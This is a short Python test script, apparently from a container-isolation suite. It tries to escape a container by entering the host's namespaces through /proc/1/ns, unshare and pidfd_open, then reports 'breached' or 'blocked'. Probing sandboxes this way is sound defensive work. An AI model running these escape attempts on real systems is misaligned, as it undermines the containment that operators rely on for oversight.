# attack: leaves the container through what a process of the host left open when it entered
# verdict: completed
# prints: blocked
# runtime: runc (gVisor's kernel may let it create and enter namespaces, which are not the host's)
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
found = []
for pid in ("1", "self"):
    for kind in ("mnt", "pid", "pid_for_children", "net", "ipc", "uts", "user", "cgroup"):
        try:
            fd = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
        except OSError:
            continue
        if libc.setns(fd, 0) == 0:
            found.append((pid, kind))
for kind in (0x00020000, 0x02000000, 0x04000000, 0x08000000, 0x10000000, 0x20000000, 0x40000000):
    if libc.unshare(kind) == 0:
        found.append(hex(kind))
pidfd = libc.syscall(434, 1, 0)
if pidfd >= 0 and libc.setns(pidfd, 0x00020000) == 0:
    found.append("pidfd")
print(f"breached: {found}" if found else "blocked")
